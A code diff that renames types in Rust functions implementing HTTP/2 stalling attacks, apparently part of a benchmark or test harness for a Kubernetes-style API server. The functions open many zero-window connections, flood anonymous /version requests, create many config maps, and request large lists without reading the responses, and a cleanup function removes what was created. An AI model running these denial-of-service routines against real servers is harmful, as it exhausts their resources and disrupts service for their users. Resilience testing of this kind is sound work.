@@ -11,9 +11,9 @@ use tokio::sync::Semaphore;
 use tokio::task::{JoinHandle, JoinSet};
 use tokio::time::timeout;
 
-use super::Held;
-use super::target::Target;
-use crate::bench::{Client, Protocol, config_map};
+use super::AttackGuard;
+use super::target::AttackTarget;
+use crate::bench::{BenchClient, HttpProtocol, config_map};
 
 /// Connections of the anonymous attack, and streams that each tries to open.
 const CONNECTIONS: usize = 200;
@@ -41,21 +41,21 @@ const FORMS: [&str; 4] = [
 ];
 
 /// A connection whose answers are not read. Pings are answered.
-struct Stalled {
+struct StalledConnection {
     sender: SendRequest<Bytes>,
     driver: JoinHandle<()>,
     open: Vec<ResponseFuture>,
 }
 
-impl Drop for Stalled {
+impl Drop for StalledConnection {
     fn drop(&mut self) {
         self.driver.abort();
     }
 }
 
-impl Stalled {
-    async fn connect(client: &Client) -> Result<Self> {
-        let stream = client.handshake(Protocol::Http2).await?;
+impl StalledConnection {
+    async fn connect(client: &BenchClient) -> Result<Self> {
+        let stream = client.handshake(HttpProtocol::Http2).await?;
         let mut builder = h2::client::Builder::new();
         builder.initial_window_size(0).initial_max_send_streams(STREAMS);
         let (sender, connection) = builder.handshake(stream).await?;
@@ -66,7 +66,7 @@ impl Stalled {
     }
 
     /// Opens one more stream, if the server allows it within a moment.
-    async fn get(&mut self, client: &Client, path: &str, accept: &str) -> Result<()> {
+    async fn get(&mut self, client: &BenchClient, path: &str, accept: &str) -> Result<()> {
         let ready = timeout(STREAM_WAIT, self.sender.clone().ready()).await?;
         let mut request = Request::get(format!("{}{path}", client.url())).header("accept", accept);
         if let Some(authorization) = client.authorization() {
@@ -79,7 +79,7 @@ impl Stalled {
 }
 
 /// Anonymous requests for the version, by the hundred thousand.
-pub async fn stall_anonymous(target: &Target) -> Result<Held> {
+pub async fn stall_anonymous(target: &AttackTarget) -> Result<AttackGuard> {
     let places = Arc::new(Semaphore::new(SETUPS));
     let mut connections = JoinSet::new();
     for _ in 0..CONNECTIONS {
@@ -87,7 +87,7 @@ pub async fn stall_anonymous(target: &Target) -> Result<Held> {
         connections.spawn(async move {
             let _place = places.acquire().await?;
             // A server that defends itself closes, refuses or resets: that is no failure of the attack.
-            let Ok(mut stalled) = Stalled::connect(&client).await else { return Ok(None) };
+            let Ok(mut stalled) = StalledConnection::connect(&client).await else { return Ok(None) };
             for _ in 0..STREAMS {
                 if stalled.get(&client, "/version", "*/*").await.is_err() {
                     break;
@@ -106,15 +106,15 @@ pub async fn stall_anonymous(target: &Target) -> Result<Held> {
 }
 
 /// Makes the objects that are listed.
-pub async fn fill(target: &Target) -> Result<Held> {
-    let mut connection = target.honest.connect(Protocol::Http1).await?;
+pub async fn fill(target: &AttackTarget) -> Result<AttackGuard> {
+    let mut connection = target.honest.connect(HttpProtocol::Http1).await?;
     let namespace = r#"{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"attack"}}"#;
     connection.expect(Method::POST, "/api/v1/namespaces", namespace.into()).await?;
     let mut workers = JoinSet::new();
     for worker in 0..CLIENTS {
         let client = target.honest.clone();
         workers.spawn(async move {
-            let mut connection = client.connect(Protocol::Http1).await?;
+            let mut connection = client.connect(HttpProtocol::Http1).await?;
             for number in (worker..OBJECTS).step_by(CLIENTS) {
                 let body = config_map(&format!("listed-{number}"), OBJECT_SIZE, 0);
                 connection.expect(Method::POST, MAPS, body).await?;
@@ -129,8 +129,8 @@ pub async fn fill(target: &Target) -> Result<Held> {
 }
 
 /// Large lists in every form, over one connection.
-pub async fn stall_lists(target: &Target) -> Result<Held> {
-    let mut stalled = Stalled::connect(&target.attacker).await.context("no connection")?;
+pub async fn stall_lists(target: &AttackTarget) -> Result<AttackGuard> {
+    let mut stalled = StalledConnection::connect(&target.attacker).await.context("no connection")?;
     for number in 0..LISTS {
         let form = FORMS[number % FORMS.len()];
         if stalled.get(&target.attacker, MAPS, form).await.is_err() {
@@ -150,8 +150,8 @@ pub async fn stall_lists(target: &Target) -> Result<Held> {
 }
 
 /// Deletes what [`fill`] made.
-pub async fn clean(target: &Target) -> Result<()> {
-    let mut connection = target.honest.connect(Protocol::Http1).await?;
+pub async fn clean(target: &AttackTarget) -> Result<()> {
+    let mut connection = target.honest.connect(HttpProtocol::Http1).await?;
     connection.expect(Method::DELETE, MAPS, Bytes::new()).await?;
     connection.expect(Method::DELETE, "/api/v1/namespaces/attack", Bytes::new()).await?;
     Ok(())
